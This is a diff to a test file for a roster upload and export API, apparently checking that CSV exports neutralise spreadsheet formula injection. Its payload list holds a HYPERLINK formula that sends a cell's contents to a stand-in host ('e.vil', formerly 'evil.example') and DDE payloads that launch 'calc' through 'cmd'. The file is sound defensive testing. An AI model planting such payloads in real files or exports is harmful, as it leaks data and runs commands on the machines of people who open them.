@@ -13,15 +13,19 @@ import { KAPUAS, draft, json, testApp, tokenOf, worker } from './fixtures';
 
 const t = testApp();
 
-/** Starts a spreadsheet reads as a formula, and two classic payloads. */
+/**
+ * Starts a spreadsheet reads as a formula, and classic payloads. A tab or carriage return in front
+ * is refused at upload (control characters, shared/text.ts): checked below, so never exported.
+ */
+const CONTROL_STARTS = ['\t=1+1', '\r=1+1', ' \t=1+1'];
 const PAYLOADS = [
   '=1+1',
   '+62 812 0000',
   '-2+3',
   '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
-  '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
+  ' =1+1',
+  // At most 40 characters, the phone number's limit.
+  '=HYPERLINK("http://e.vil/?"&A1,"Klik")',
   "=cmd|' /C calc'!A0",
   '+cmd|" /C calc"!A0',
   '@cmd|" /C calc"!A0',
@@ -56,9 +60,8 @@ beforeAll(async () => {
   const roster = await json<Roster>(await t.call('POST', '/v1/rosters', operator, draft()));
   rosterId = roster.id;
   const upload = await t.call('PUT', `/v1/rosters/${rosterId}/chunks/1`, operator, { firstRow: 1, rows });
-  expect(upload.status).toBe(200);
-  const submit = await t.call('POST', `/v1/rosters/${rosterId}/submit`, operator);
-  expect(submit.status).toBe(200);
+  expect(upload.status, await upload.clone().text()).toBe(200);
+  expect((await t.submit(rosterId, operator)).status).toBe('submitted');
 });
 
 /** What the export should show for a payload: the text the API stored, made inert. */
@@ -69,6 +72,23 @@ describe('formula injection in exports', () => {
     expect(FREE_TEXT.map((c) => c.field)).toEqual(
       expect.arrayContaining(['name', 'address', 'village', 'phone', 'occupation']),
     );
+  });
+
+  it('refuses a tab or carriage return in front of a formula at upload, in every free-text field', async () => {
+    const operator = await tokenOf(KAPUAS.operator);
+    const roster = await json<Roster>(await t.call('POST', '/v1/rosters', operator, draft()));
+    for (const payload of CONTROL_STARTS) {
+      for (const column of FREE_TEXT) {
+        const row = { ...worker(), [column.field]: payload };
+        const response = await t.call('PUT', `/v1/rosters/${roster.id}/chunks/1`, operator, {
+          firstRow: 1,
+          rows: [row],
+        });
+        expect(response.status, `${column.field} = ${JSON.stringify(payload)}`).toBe(422);
+      }
+    }
+    const stored = await json<Roster>(await t.call('GET', `/v1/rosters/${roster.id}`, operator));
+    expect(stored.rowCount).toBe(0);
   });
 
   it('CSV: no text cell starts with a formula trigger, and each payload is kept as inert text', async () => {
